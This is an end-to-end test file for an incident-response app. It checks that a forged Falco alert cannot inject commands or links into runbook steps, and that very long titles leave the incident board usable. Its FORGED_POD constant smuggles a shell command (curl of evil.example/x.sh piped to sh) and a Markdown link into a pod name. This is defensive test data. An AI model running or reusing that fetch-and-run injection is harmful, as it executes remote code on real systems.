// Alert text is written by whoever controls the container. A forged alert whose pod name carries a
// command and a Markdown link reaches a run's instructions only as a visible refusal, and the run
// says so; a 10,000-character unbroken title or namespace leaves the incident board usable.
import { randomBytes } from "node:crypto";
import { insertSource, suggestPlaybook } from "./alert-helpers";
import { expect, test, uniqueSuffix } from "./fixtures";

const FORGED_POD =
  "web-7d9f8b6c5d-x2x9q -o yaml; curl -sk https://evil.example/x.sh | sh\n```\n[Open the runbook](https://evil.example/runbook)";

function shellEvent(fields: Record<string, string>, rule = "Terminal shell in container"): Record<string, unknown> {
  return {
    uuid: crypto.randomUUID(),
    output: `Warning A shell was spawned in a container with an attached terminal (user=root container_id=${fields["container.id"] ?? "host"})`,
    priority: "Warning",
    rule,
    time: new Date(Date.now() - 30_000).toISOString(),
    source: "syscall",
    tags: ["container", "mitre_execution", "shell", "T1059"],
    hostname: "node-e2e",
    output_fields: { "proc.name": "bash", "user.name": "root", ...fields },
  };
}

test("a forged alert's run shows its refused value and no injected command or link", async ({ page, db, createUser, signInAs }) => {
  const token = await insertSource(db, "hostile");
  const cluster = `hostile-${uniqueSuffix()}`;
  const container = randomBytes(6).toString("hex");
  const response = await page.request.post("/api/ingest/falco", {
    headers: { Authorization: `Bearer ${token}` },
    data: shellEvent({
      cluster,
      "container.id": container,
      "k8s.ns.name": "payments",
      "k8s.pod.name": FORGED_POD,
      "k8s.node.name": "ip-10-0-1-12",
    }),
  });
  expect(response.status()).toBe(202);
  const { incidents } = (await response.json()) as { incidents: string[] };
  expect(incidents).toHaveLength(1);
  const key = incidents[0]!;
  // Ingest keeps what the alert said: the raw value is stored, not rewritten.
  const stored = await db.query<{ podName: string }>(`SELECT "podName" FROM "Alert" WHERE "containerId" = $1`, [container]);
  expect(stored.rows[0]?.podName).toBe(FORGED_POD);
  await suggestPlaybook(db, key, "hostile", {
    title: "Preserve the pod",
    instructions:
      "Save the pod:\n\n```sh\nkubectl -n {{namespace}} get pod {{pod}} -o yaml\n```\n\nThen check {{pod}} in `{{namespace}}` on {{node}}.",
  });

  const responder = await createUser({ role: "RESPONDER" });
  await signInAs(page, responder.email, responder.password);
  await page.goto(`/incidents/${key}`);
  await page.getByRole("form", { name: "Start a run" }).getByRole("button", { name: "Start a run" }).click();
  await expect(page).toHaveURL(/\/runs\/[^/]+$/);

  const step = page.getByRole("article", { name: /Preserve the pod/ });
  await expect(step.locator("pre")).toHaveText("kubectl -n payments get pod ‹pod refused› -o yaml");
  await expect(step).toContainText("Then check ‹pod refused› in payments on ip-10-0-1-12.");
  // Nothing the alert wrote became a command, a code block or a link.
  await expect(step.locator("pre")).toHaveCount(1);
  await expect(step.locator("pre, code").filter({ hasText: /curl|evil\.example|;|\|/ })).toHaveCount(0);
  await expect(page.locator('a[href*="evil.example"]')).toHaveCount(0);
  await expect(step.getByRole("link")).toHaveCount(0);

  // The run says which value was refused and why, showing it only as text.
  // (The workload, derived from the same pod name, is refused too.)
  const notice = page.getByRole("region", { name: /context values? (was|were) refused/ });
  await expect(notice).toBeVisible();
  const item = notice.getByRole("listitem").filter({ hasText: "{{pod}}" });
  await expect(item).toHaveCount(1);
  await expect(item).toContainText("{{pod}}");
  await expect(item).toContainText("not a DNS-1123 subdomain");
  await expect(item).toContainText("web-7d9f8b6c5d-x2x9q -o yaml; curl -sk https://evil.example/x.sh | sh");
  await expect(notice.getByRole("link")).toHaveCount(0);
  await expect(notice.locator("code, pre")).toHaveCount(0);
});

test("a 10,000-character unbroken title and namespace keep the incident board usable", async ({ page, db, createUser, signInAs }) => {
  const suffix = uniqueSuffix();
  const cluster = `hostile-board-${suffix}`;
  const long = "x".repeat(10_000);
  await db.query(
    `INSERT INTO "Incident" ("id", "title", "type", "severity", "status", "cluster", "namespace", "workload", "alertCount", "lastAlertAt", "updatedAt")
     VALUES ($1, $2, 'SHELL_IN_CONTAINER', 'SEV2', 'OPEN', $3, $4, $5, 1, now(), now())`,
    [`e2e-hostile-incident-${suffix}`, `T${long}`, cluster, `n${long}`, `w${long}`],
  );
  // Titles built at ingest from a hostile rule and namespace are capped.
  const token = await insertSource(db, "hostile");
  const ingestCluster = `hostile-cap-${suffix}`;
  const response = await page.request.post("/api/ingest/falco", {
    headers: { Authorization: `Bearer ${token}` },
    data: shellEvent(
      { cluster: ingestCluster, "container.id": randomBytes(6).toString("hex"), "k8s.ns.name": `n${long}`, "k8s.pod.name": `p${long}` },
      `R${long}`,
    ),
  });
  expect(response.status()).toBe(202);
  const capped = await db.query<{ title: string; namespace: string }>(`SELECT "title", "namespace" FROM "Incident" WHERE "cluster" = $1`, [
    ingestCluster,
  ]);
  expect(capped.rows).toHaveLength(1);
  expect(capped.rows[0]!.title.length).toBeLessThanOrEqual(200);
  expect(capped.rows[0]!.namespace.length).toBeLessThanOrEqual(128);

  // An ordinary incident to compare with: hostile text must not make the board any wider.
  await db.query(
    `INSERT INTO "Incident" ("id", "title", "type", "severity", "status", "cluster", "namespace", "workload", "alertCount", "lastAlertAt", "updatedAt")
     VALUES ($1, 'Terminal shell in container — checkout-api in prod-eu/checkout', 'SHELL_IN_CONTAINER', 'SEV2', 'OPEN', $2, 'checkout', 'checkout-api', 1, now(), now())`,
    [`e2e-ordinary-incident-${suffix}`, `${cluster}-ordinary`],
  );

  const responder = await createUser({ role: "RESPONDER" });
  await signInAs(page, responder.email, responder.password);
  await page.setViewportSize({ width: 1280, height: 800 });
  await page.goto(`/incidents?cluster=${cluster}-ordinary`);
  await expect(page.getByRole("table").getByRole("row")).toHaveCount(2);
  const ordinary = (await page.getByRole("table").boundingBox())!;

  await page.goto(`/incidents?cluster=${cluster}`);
  const rows = page.getByRole("table").getByRole("row");
  await expect(rows).toHaveCount(2);
  const row = rows.nth(1);
  await expect(row).toContainText("Txxxx");

  const table = (await page.getByRole("table").boundingBox())!;
  const rowBox = (await row.boundingBox())!;
  // The table is no wider than with ordinary text, the page does not scroll sideways, and the row
  // stays a few lines tall; no cell grows past its share.
  expect(table.width).toBeLessThanOrEqual(ordinary.width + 40);
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(1280);
  expect(rowBox.height).toBeLessThan(160);
  for (const cell of await row.getByRole("cell").all()) {
    expect((await cell.boundingBox())!.width).toBeLessThan(520);
  }
  // The full value is one hover away (capped so the tooltip stays small).
  await expect(row.locator(`[title^="T${"x".repeat(100)}"]`)).toHaveCount(1);
  // The row is still usable: its link opens the incident.
  await expect(row.getByRole("link", { name: /INC-/ })).toBeVisible();
});
